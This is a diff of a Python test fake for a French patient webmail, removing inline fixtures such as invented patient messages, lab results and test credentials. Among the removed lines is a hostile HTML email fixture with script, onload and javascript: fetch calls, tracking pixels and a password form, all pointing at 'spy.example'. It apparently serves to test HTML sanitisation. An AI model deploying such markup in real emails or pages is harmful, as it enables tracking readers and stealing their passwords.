@@ -5,34 +5,27 @@ Two spaces exist, so that references of one can be tried from the other. Acts of
 """
 
 import asyncio
-import zlib
 from collections.abc import AsyncGenerator
 from dataclasses import dataclass, field, replace
-from datetime import UTC, date, datetime, timedelta
-from decimal import Decimal
+from datetime import datetime
 
 from gateway.domain.document import DocumentCategory
 from gateway.domain.errors import NotFound
+from tests.builders.web_people import CAMILLE, CODE, IDENTIFIER, NOW, PASSWORD
 from webmail.model import (
-    AccountId,
     Attachment,
     CodeSent,
     Conversation,
     ConversationId,
     ConversationSummary,
-    Correspondent,
-    CorrespondentKind,
     Delivery,
     Document,
-    DocumentFile,
     DocumentId,
     DocumentList,
-    DocumentSummary,
     ExchangeState,
     File,
     Home,
     HtmlBody,
-    InlineImage,
     Message,
     MessageId,
     Page,
@@ -40,67 +33,11 @@ from webmail.model import (
     ReplyDraft,
     ReplyRefused,
     ReplySent,
-    Result,
-    ResultGroup,
     SignedIn,
     SignInRefusal,
     SpaceId,
     Viewer,
 )
-
-NOW = datetime(2026, 3, 12, 9, 5, tzinfo=UTC)
-IDENTIFIER, PASSWORD, CODE = "camille.martin", "Trois-lampes-bleues-7", "aB3dE9"
-CAMILLE = SignedIn(
-    Viewer(SpaceId("space-1"), AccountId("account-1")), "Camille Martin", "279035121518989@patient.mssante.fr"
-)
-OTHER = SignedIn(Viewer(SpaceId("space-2"), AccountId("account-2")), "Noé Petit", "195035121518986@patient.mssante.fr")
-
-VASSEUR = Correspondent("Dr Hélène Vasseur", CorrespondentKind.PERSON, "Médecin généraliste · Lyon")
-KADDOUR = Correspondent("Dr Samir Kaddour", CorrespondentKind.PERSON, "Cardiologue · Villeurbanne")
-LABORATORY = Correspondent("Laboratoire des Halles", CorrespondentKind.APPLICATION, "Biologie médicale · Lyon")
-HOSPITAL = Correspondent("Service de cardiologie", CorrespondentKind.ORGANISATION, "Hôpital Saint-Exemple")
-
-PNG = bytes.fromhex(
-    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
-    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
-)
-
-
-def invented_pdf(text: str) -> bytes:
-    """Make a one-page PDF that says `text` (ASCII)."""
-    drawn = zlib.compress(b"BT /F1 20 Tf 60 760 Td (" + text.encode("ascii") + b") Tj ET")
-    objects = [
-        b"<</Type/Catalog/Pages 2 0 R>>",
-        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
-        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
-        b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(drawn), drawn),
-        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
-    ]
-    out, offsets = bytearray(b"%PDF-1.4\n"), []
-    for number, body in enumerate(objects, 1):
-        offsets.append(len(out))
-        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
-    start = len(out)
-    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
-    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
-    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
-    return bytes(out)
-
-
-HOSTILE_HTML = """<html><head><style>@import url(https://spy.example/i.css);body{background:url(//spy.example/b)}</style></head>
-<body bgcolor="#ffffff" background="https://spy.example/body.png" onload="fetch('https://spy.example/onload')">
-<h2 style="color:red;background-image:url(https://spy.example/h2.png)">Votre rendez-vous</h2>
-<p style="font-weight:bold">Voici la courbe de votre tension&nbsp;:</p>
-<img src="cid:courbe@cabinet.example" alt="Courbe de tension" width="120" height="40">
-<img src="https://spy.example/pixel.gif" alt="" width="1" height="1">
-<script>parent.document.title = 'volé'; fetch('https://spy.example/script')</script>
-<svg onload="fetch('https://spy.example/svg')"><image href="https://spy.example/svg.png"/></svg>
-<a href="https://rendez-vous.example/dr-vasseur">Prendre rendez-vous</a>
-<a href="javascript:fetch('https://spy.example/js')">ici</a>
-<form action="https://spy.example/form"><input name="mot_de_passe"><button>Valider</button></form>
-<iframe src="https://spy.example/frame"></iframe><link rel="stylesheet" href="https://spy.example/l.css">
-<video src="https://spy.example/v.mp4" autoplay></video><meta http-equiv="refresh" content="0;url=https://spy.example/m">
-</body></html>"""
 
 
 @dataclass(frozen=True, slots=True)
@@ -124,6 +61,7 @@ class WebWorld:
     html: dict[str, HtmlBody] = field(default_factory=dict)
     owners: dict[str, SpaceId] = field(default_factory=dict)
     replies: list[ReplyDraft] = field(default_factory=list)
+    sources: list[str] = field(default_factory=list)
     revision: int = 1
     changed: asyncio.Condition = field(default_factory=asyncio.Condition)
 
@@ -162,6 +100,7 @@ class WebWorld:
 
     async def sign_in(self, identifier: str, password: str, source: str) -> CodeSent | SignInRefusal:
         """Know one password."""
+        self.sources.append(source)
         if identifier == "trop.souvent":
             return SignInRefusal.TOO_MANY_ATTEMPTS
         if (identifier, password) != (IDENTIFIER, PASSWORD):
@@ -170,6 +109,7 @@ class WebWorld:
 
     async def verify_code(self, pending: str, code: str, source: str) -> SignedIn | SignInRefusal:
         """Know one code."""
+        self.sources.append(source)
         if pending != "attempt-of-camille":
             return SignInRefusal.CODE_EXPIRED
         return CAMILLE if code == CODE else SignInRefusal.WRONG_CODE
@@ -313,143 +253,3 @@ def _file(name: str, media_type: str, content: bytes) -> File:
             yield content[start : start + 65536]
 
     return File(name, media_type, len(content), chunks())
-
-
-def _ago(**spans: float) -> datetime:
-    return NOW - timedelta(**spans)
-
-
-def invented_results() -> tuple[ResultGroup, ...]:
-    """Give results of every kind that a page must show."""
-    d = Decimal
-    return (
-        ResultGroup(
-            "Hématologie",
-            (
-                Result("Hémoglobine", "13.8", "718-7", "g/dL", d("11.5"), d("16.0"), interpretation="N"),
-                Result("Leucocytes", "11.4", "6690-2", "10⁹/L", d("4.0"), d("10.0"), interpretation="H"),
-                Result("Plaquettes", "96", "777-3", "10⁹/L", d("150"), d("400"), interpretation="L"),
-            ),
-        ),
-        ResultGroup(
-            "Biochimie",
-            (
-                Result("Glycémie à jeun", "1.12", "2339-0", "g/L", d("0.70"), d("1.10"), interpretation="H",
-                       other_unit="6,2 mmol/L", method="Hexokinase"),
-                Result("Potassium", "6.8", "2823-3", "mmol/L", d("3.5"), d("5.1"), interpretation="HH",
-                       comment="Vérifié sur un second prélèvement."),
-                Result("Protéine C réactive", "<1.0", "1988-5", "mg/L", None, d("5.0")),
-                Result("Cholestérol HDL", "0.52", "2085-9", "g/L", d("0.40"), None),
-                Result("Débit de filtration glomérulaire", ">90", "62238-1", "mL/min", d("60"), None),
-                Result("Antigène HBs", "Négatif", "5196-1", reference="Négatif"),
-                Result("Ferritine", "148", "2276-4", "µg/L"),
-            ),
-        ),
-        ResultGroup("Antibiogramme", (Result("Amoxicilline", "Sensible", "18861-5", interpretation="S"),)),
-    )  # fmt: skip
-
-
-def _document(
-    reference: str, title: str, category: DocumentCategory, dated: date | datetime, author: str, **more: object
-) -> Document:
-    results = invented_results() if more.pop("with_results", False) else ()
-    summary = DocumentSummary(
-        DocumentId(reference), title, category, dated, author,
-        is_new=bool(more.get("is_new")), identity_verified=bool(more.get("identity_verified", True)),
-        results=sum(len(group.results) for group in results), has_alert=bool(results),
-        is_replaced=bool(more.get("is_replaced")),
-    )  # fmt: skip
-    conversation = more.get("conversation")
-    return Document(
-        summary,
-        str(more.get("type_label", "Compte rendu")),
-        _ago(hours=2),
-        sender=LABORATORY if results else HOSPITAL,
-        conversation=ConversationId(str(conversation)) if conversation else None,
-        results=results,
-        files=(
-            DocumentFile("pdf", f"{title}.pdf", "application/pdf", len(invented_pdf("Compte rendu"))),
-            DocumentFile("original", f"{title}.xml", "text/xml", 48_210),
-        ),
-    )
-
-
-def demo_world() -> WebWorld:
-    """Make a space with a bit of everything."""
-    world = WebWorld()
-    bilan = _document("d-bilan", "Bilan sanguin complet", DocumentCategory.BIOLOGY, _ago(hours=3), "Dr Anne Leroy, biologiste",
-                      with_results=True, is_new=True, conversation="c-labo", type_label="Compte rendu d’examens biologiques")  # fmt: skip
-    echo = _document("d-echo", "Échographie cardiaque", DocumentCategory.IMAGING, date(2026, 2, 27), "Dr Samir Kaddour",
-                     is_new=True, conversation="c-kaddour", type_label="Compte rendu d’imagerie médicale")  # fmt: skip
-    others = [
-        _document("d-ordo", "Ordonnance de kinésithérapie", DocumentCategory.PRESCRIPTIONS, date(2026, 1, 19), "Dr Hélène Vasseur"),
-        _document("d-crh", "Lettre de sortie d’hospitalisation", DocumentCategory.REPORTS, date(2025, 11, 4), "Service de cardiologie"),
-        _document("d-scan", "scan_0042.pdf", DocumentCategory.OTHER, date(2025, 10, 2), "", identity_verified=False),
-        _document("d-vac", "Note de vaccination", DocumentCategory.VACCINATION, date(2025, 9, 12), "Pharmacie du Pont"),
-        _document("d-bilan-0", "Bilan lipidique", DocumentCategory.BIOLOGY, date(2024, 6, 3), "Laboratoire des Halles", is_replaced=True),
-    ]  # fmt: skip
-    for document in (bilan, echo, *others):
-        world.add_document(document)
-        for file in document.files:
-            content = invented_pdf("Compte rendu") if file.which == "pdf" else b"<ClinicalDocument/>".ljust(file.size)
-            world.files[(document.summary.id, file.which)] = content
-    world.add_document(_document("d-autre", "Bilan de Noé", DocumentCategory.BIOLOGY, date(2026, 1, 1), ""), OTHER)
-    for conversation in _conversations(bilan.summary, echo.summary):
-        world.add_conversation(conversation)
-    world.files[("m-1", "2")] = invented_pdf("Plan alimentaire")
-    world.files[("m-1", "3")] = PNG
-    world.html["m-html"] = HtmlBody(HOSTILE_HTML, {"courbe@cabinet.example": InlineImage("image/png", PNG)})
-    secret = Message(MessageId("m-autre"), NOW, "Dr Hélène Vasseur", "Pour Noé seulement.")
-    world.add_conversation(
-        Conversation(ConversationId("c-autre"), VASSEUR, "Noé", ExchangeState.OPEN, (secret,)), OTHER
-    )
-    return world
-
-
-def _conversations(bilan: DocumentSummary, echo: DocumentSummary) -> list[Conversation]:
-    first = Message(
-        MessageId("m-1"), _ago(days=2, hours=5), "Dr Hélène Vasseur",
-        "Bonjour Madame Martin,\n\nVos analyses sont rassurantes dans l’ensemble. La glycémie est un peu au-dessus de "
-        "l’intervalle : je vous propose de refaire le dosage dans trois mois, et je joins un plan alimentaire.\n\n"
-        "Les explications sont ici : https://sante.example/glycemie.\n\nBien à vous,\nHélène Vasseur",
-        attachments=(
-            Attachment("2", "Plan alimentaire - mars 2026.pdf", "application/pdf", 184_320),
-            Attachment("3", "courbe.png", "image/png", len(PNG)),
-        ),
-    )  # fmt: skip
-    mine = Message(
-        MessageId("m-2"), _ago(days=1, hours=3), "Camille Martin",
-        "Merci docteur.\nDois-je arrêter le sucre dans le café ? :)", delivery=Delivery.DELIVERED,
-    )  # fmt: skip
-    last = Message(
-        MessageId("m-3"), _ago(minutes=25), "Dr Hélène Vasseur",
-        "Une seule cuillère, c’est très bien.\n\nÀ bientôt.\n\nLe 11 mars 2026, Camille Martin a écrit :\n"
-        "> Merci docteur.\n> Dois-je arrêter le sucre dans le café ?", unread=True,
-    )  # fmt: skip
-    html = Message(
-        MessageId("m-html"), _ago(days=6), "Service de cardiologie",
-        "Votre rendez-vous\nVoici la courbe de votre tension.", has_html=True,
-    )  # fmt: skip
-    result = Message(
-        MessageId("m-labo"), _ago(hours=3), "Laboratoire des Halles",
-        "Bonjour,\n\nVeuillez trouver ci-joint le compte rendu de vos examens.", unread=True, documents=(bilan,),
-        attachments=(
-            Attachment("2", "IHE_XDM.zip", "application/zip", 61_440),
-            Attachment("3", "20260312_CR-BIO_MARTIN_Camille.pdf", "application/pdf", 98_120),
-        ),
-    )  # fmt: skip
-    ended = Message(
-        MessageId("m-fin"), _ago(days=13), "Dr Samir Kaddour",
-        "L’échographie est normale. Nous nous revoyons dans un an.", documents=(echo,),
-    )  # fmt: skip
-    failed = Message(
-        MessageId("m-ko"), _ago(days=40), "Camille Martin", "Voici l’adresse de mon dentiste.", delivery=Delivery.FAILED
-    )
-    return [
-        Conversation(ConversationId("c-vasseur"), VASSEUR, "Vos analyses de mars", ExchangeState.OPEN, (first, mine, last)),
-        Conversation(ConversationId("c-labo"), LABORATORY, "XDM/1.0/DDM+Bilan sanguin complet MARTIN Camille 12/03/1979",
-                     ExchangeState.AUTOMATIC, (result,)),
-        Conversation(ConversationId("c-hopital"), HOSPITAL, "Confirmation de rendez-vous", ExchangeState.OPEN, (html,)),
-        Conversation(ConversationId("c-kaddour"), KADDOUR, "RE: Échographie du 27 février", ExchangeState.ENDED, (ended,)),
-        Conversation(ConversationId("c-dent"), VASSEUR, "Coordonnées de votre dentiste", ExchangeState.OPEN, (failed,)),
-    ]  # fmt: skip
